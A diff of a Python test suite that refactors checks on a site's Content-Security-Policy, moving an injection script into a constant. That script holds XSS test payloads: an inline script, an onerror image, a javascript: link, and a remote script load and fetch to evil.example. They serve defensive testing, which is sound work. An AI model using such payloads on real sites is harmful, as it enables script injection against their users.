@@ -24,11 +24,31 @@ PAGE = (
     '<script type="application/ld+json">{"a": 1}</script></head><body>{}</body></html>'
 )
 
+STATED = re.compile(r'http-equiv="Content-Security-Policy" content="([^"]*)"')
+WATCH = """addEventListener("securitypolicyviolation", (e) =>
+  (window.stopped ??= []).push(e.effectiveDirective + " " + e.blockedURI + " " + e.sourceFile))"""
+
+INTRUDE = """() => {
+  const script = document.createElement("script");
+  script.textContent = "window.hacked = 1";
+  document.body.append(script);
+  const box = document.createElement("div");
+  box.innerHTML = '<img src=x: onerror="window.hacked = 2"><img src="https://evil.example/">'
+    + '<a href="javascript:window.hacked = 3">x</a>';
+  document.body.append(box);
+  box.querySelector("a").click();
+  const far = document.createElement("script");
+  far.src = "https://evil.example/x.js";
+  document.body.append(far);
+  fetch("https://evil.example/").catch(() => 0);
+}"""
+"""All that a text could do that has got into a page."""
+
 
 def test_a_page_names_the_scripts_that_stand_in_it_and_no_others() -> None:
     page = guarded(PAGE)
     assert [*inline(PAGE)] == ["let here = 1"]
-    (content,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
+    (content,) = STATED.findall(page)
     assert page.index("charset") < page.index("Content-Security") < page.index("<script")
     assert f"script-src 'self' '{hash_of('let here = 1')}';" in content
     assert "http" not in content
@@ -52,13 +72,8 @@ def test_every_page_of_the_site_has_its_policy(site: Path) -> None:
     assert len(pages) > 500
     for file in pages:
         text = file.read_text("utf-8")
-        found = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)
-        assert found == [policy(text)], file
+        assert STATED.findall(text) == [policy(text)], file
         assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", text), f"{file} has a handler"
-
-
-WATCH = """addEventListener("securitypolicyviolation", (e) =>
-  (window.stopped ??= []).push(e.effectiveDirective + " " + e.blockedURI + " " + e.sourceFile))"""
 
 
 @pytest.fixture
@@ -88,22 +103,7 @@ def test_a_script_that_is_got_into_a_page_is_not_run_and_no_other_host_is_asked(
     failed: list[str | None] = []
     watched.on("requestfailed", lambda request: failed.append(request.failure))
     watched.goto("/situationer/kulorsvigt/")
-    watched.evaluate(
-        """() => {
-          const script = document.createElement("script");
-          script.textContent = "window.hacked = 1";
-          document.body.append(script);
-          const box = document.createElement("div");
-          box.innerHTML = '<img src=x: onerror="window.hacked = 2"><img src="https://evil.example/">'
-            + '<a href="javascript:window.hacked = 3">x</a>';
-          document.body.append(box);
-          box.querySelector("a").click();
-          const far = document.createElement("script");
-          far.src = "https://evil.example/x.js";
-          document.body.append(far);
-          fetch("https://evil.example/").catch(() => 0);
-        }"""
-    )
+    watched.evaluate(INTRUDE)
     watched.wait_for_timeout(500)
     assert watched.evaluate("window.hacked") is None
     assert len(watched.evaluate("window.stopped")) >= 5
